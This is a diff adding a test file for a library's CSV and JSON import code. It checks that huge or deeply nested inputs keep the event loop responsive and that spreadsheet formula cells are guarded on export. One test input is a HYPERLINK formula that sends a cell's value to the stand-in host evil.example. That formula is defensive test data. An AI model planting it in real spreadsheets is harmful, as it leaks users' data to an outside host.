@@ -1,0 +1,66 @@
+import { monitorEventLoopDelay } from 'node:perf_hooks';
+import { setTimeout } from 'node:timers/promises';
+import { expect, test } from 'vitest';
+import { csvLine } from '../../../../src/core/text/csv-line';
+import { parseCsv } from '../../../../src/service/library/imports/csv';
+import { parseJsonInPieces } from '../../../../src/service/library/imports/parse-json-in-pieces';
+import { readFile } from '../../../../src/service/library/imports/read-file';
+
+/** Characters of the largest file that is taken. */
+const LARGEST = 32 * 1024 * 1024;
+
+const grow = (unit: string, length = LARGEST) => unit.repeat(Math.floor(length / unit.length));
+
+test.each([
+  ['quotes that are escaped', `[${grow('"\\"', 400_000)}`],
+  ['quotes that are escaped, at full length', `[${grow('"\\"')}`],
+  ['lists in lists', grow('[')],
+  ['objects in objects', grow('{"a":')],
+  ['one entry of full length', `[{"a":[${grow('1,')}1]}]`],
+  ['one string of full length', `["${grow('a')}"]`],
+  ['a million empty entries', `[${grow('{},', 3_000_000)}{}]`],
+  ['columns without end', `${grow('a,')}\n${grow('a,', 4_000)}`],
+  ['columns without end in each line', `title,date\n${grow(`${',a'.repeat(900)}\n`)}`],
+  ['short lines below many columns', `${',a'.repeat(900)}\n${grow('a\n', 2_000_000)}`],
+  ['doubled quotes', `title,date\n"${grow('""')}`],
+  ['a quote in each cell', `title,date\n${grow('"",', 4_000_000)}`],
+  ['one cell of full length', `title,date\n${grow('a')}`],
+])('%s keep nobody waiting', { timeout: 60_000 }, async (_, text) => {
+  const delay = monitorEventLoopDelay({ resolution: 5 });
+  // The text is made before the time begins.
+  text.charCodeAt(text.length - 1);
+  await setTimeout(10);
+  delay.enable();
+  await readFile(text);
+  await setTimeout(10);
+  delay.disable();
+  expect(delay.max / 1e6).toBeLessThan(400);
+});
+
+test('a text that is nested too deep is no file, short or long', async () => {
+  const nested = `${'['.repeat(100)}${']'.repeat(100)}`;
+  expect(await parseJsonInPieces(`[${nested}${' '.repeat(250_000)}]`)).toBeUndefined();
+  expect(await parseJsonInPieces(nested)).toBeUndefined();
+});
+
+test('cells that a spreadsheet would run are written guarded, and read without the guard', async () => {
+  const titles = [
+    '=HYPERLINK("https://evil.example/?"&A2,"x")',
+    '+1',
+    '-1',
+    '@SUM(1)',
+    '\t=1',
+    '＝1',
+    "'=1",
+    "''+",
+    ' =1',
+    '"=1',
+    "'Tis",
+    'M, A',
+  ];
+  const file = csvLine(['title']) + titles.map((title) => csvLine([title])).join('');
+  for (const line of file.split('\r\n').slice(1, 8)) expect(line).toMatch(/^"?'/);
+  expect((await parseCsv(file)).map((row) => row['title'])).toEqual(titles);
+});
+
+test('numbers are no formulas', () => expect(csvLine([-1, null, undefined, 2.5])).toBe('-1,,,2.5\r\n'));
